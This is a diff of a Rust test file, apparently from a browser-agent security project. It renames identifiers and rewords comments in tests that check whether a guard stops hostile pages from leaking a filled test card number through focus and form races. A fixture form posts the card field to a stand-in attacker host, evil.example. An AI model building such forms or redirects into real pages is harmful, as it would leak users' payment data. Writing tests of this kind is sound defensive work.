@@ -1,18 +1,18 @@
-//! Pages that race a fill: handlers that move the focus, swap nodes, retarget the form or hand the value on while the guard
-//! sets it. Each page gets the value to another place in plain Chromium, filled by plain Playwright.
+//! Pages that race a fill: handlers that move the focus, swap nodes, retarget the form or pass the value on while the guard
+//! sets it. Each page leaks the value in plain Chromium, filled by plain Playwright.
 
 use std::time::Instant;
 
 use crate::filling::sealed;
-use crate::support::{Open, PATIENCE, Received, Server, handle, launch, settings, tab};
+use crate::support::{Open, PATIENCE, Received, Server, launch, ref_of, settings, tab};
 use browser_signals::Container;
-use browser_signals::playwright::{About, Tab};
+use browser_signals::playwright::{ObservationTarget, Tab};
 use playwright_rs::api::LaunchOptions;
 use playwright_rs::protocol::{Page, Playwright};
 
 const CARD: &str = "4000056655665556";
 
-/// The form that the user agreed to, and one of somebody else's that a page may use.
+/// The form that the user agreed to, and one with another destination that a page may use.
 const FORMS: &str = r#"<form id=f action="/pay" method="post"><input id=c aria-label="Card" name="card">
 <button id=b>Pay</button></form>
 <form id=evil action="http://evil.example:PORT/x" method="post"><input id=chat name="chat" aria-label="Chat"></form>"#;
@@ -67,15 +67,15 @@ fn page(script: &str) -> String {
     )
 }
 
-/// Whether the value came to another site, or to the shop itself in an address.
+/// Whether the value reached another site, or the shop itself in an address.
 fn leaked(requests: &[Received]) -> bool {
     requests.iter().any(|it| it.path.contains(CARD) || (it.host != "shop.example" && it.body.contains(CARD)))
 }
 
-/// Fills and submits as a script of Playwright's does, with nothing between.
+/// Fills and submits as a script of Playwright's does.
 async fn plainly(page: &Page, server: &Server) -> bool {
     page.goto(server.url("shop.example", "/").as_str(), None).await.expect("the page opens");
-    // What the page does to the two is its affair: it may take the control away under the hand.
+    // Errors are ignored, since the page may remove the control meanwhile.
     let _filled = page.locator("#c").fill(CARD, None).await;
     let _pressed = page.locator("#b").click(None).await;
     let began = Instant::now();
@@ -86,7 +86,7 @@ async fn plainly(page: &Page, server: &Server) -> bool {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn in_plain_chromium_every_race_gets_the_value_elsewhere() {
+async fn in_plain_chromium_every_race_leaks_the_value() {
     let server = Server::start();
     let executable = settings(&server).executable.display().to_string();
     let playwright = Playwright::launch().await.expect("Playwright starts");
@@ -94,7 +94,7 @@ async fn in_plain_chromium_every_race_gets_the_value_elsewhere() {
     let options = LaunchOptions::new().executable_path(executable).headless(true).args(arguments);
     let browser = playwright.chromium().launch_with_options(options).await.expect("Chromium starts");
     for (name, script) in RACES {
-        // A server of its own: what leaked is this page's.
+        // A separate server for each page, so that a leak is this page's.
         let server = Server::start();
         server.page("shop.example", "/", &page(script));
         server.page("shop.example", "/pay", "<title>Thanks</title>");
@@ -115,8 +115,10 @@ async fn guarded(tab: &Tab, server: &Server, script: &str) -> bool {
     let Some(line) = text.lines().find(|line| line.contains("\"Card\"") && line.contains("[ref=")) else {
         return false;
     };
-    let Ok(seen) = tab.observe(About::Form(&handle(line, "\"Card\""))).await else { return false };
-    // A form that is covered before the fill has nothing that could be decided on.
+    let Ok(seen) = tab.observe(ObservationTarget::Form(&ref_of(line, "\"Card\""))).await else {
+        return false;
+    };
+    // A form that is covered before the fill cannot be observed.
     if seen.form.is_none() || seen.destination.known().is_none() {
         return false;
     }
@@ -126,8 +128,8 @@ async fn guarded(tab: &Tab, server: &Server, script: &str) -> bool {
     let filled = tab.fill(sealed(&seen, &[("card", CARD)])).await.is_ok();
     let Ok(text) = tab.read(&Open).await else { return filled };
     if let Some(line) = text.text.lines().find(|line| line.contains("\"Pay\"") && line.contains("[ref=")) {
-        let button = handle(line, "\"Pay\"");
-        if let Ok(decided) = tab.observe(About::Element(&button)).await {
+        let button = ref_of(line, "\"Pay\"");
+        if let Ok(decided) = tab.observe(ObservationTarget::Element(&button)).await {
             let _refused = tab.submit(&button, &decided).await;
         }
     }
@@ -135,7 +137,7 @@ async fn guarded(tab: &Tab, server: &Server, script: &str) -> bool {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn behind_the_bridge_no_race_gets_it_anywhere() {
+async fn behind_the_bridge_no_race_leaks_the_value() {
     let server = Server::start();
     let browser = launch(&server).await;
     let mut filled = 0;
@@ -144,7 +146,7 @@ async fn behind_the_bridge_no_race_gets_it_anywhere() {
         let tab = tab(&browser, &server, Container::T2).await;
         let done = guarded(&tab, &server, script).await;
         filled += usize::from(done);
-        // What the page began comes before what it is asked now.
+        // Requests that the page began earlier arrive before this one.
         let mark = format!("/mark-{}", name.replace(' ', "-"));
         server.page("shop.example", &mark, "<title>Mark</title>");
         let _left = tab.open(&server.url("shop.example", &mark)).await;
@@ -155,7 +157,7 @@ async fn behind_the_bridge_no_race_gets_it_anywhere() {
         }
         tab.close().await;
     }
-    // Else the guard would hold only because nothing is filled.
+    // Otherwise nothing would leak only because nothing is filled.
     assert!(filled >= 5, "only {filled} of the pages were filled at all");
     browser.close().await;
 }
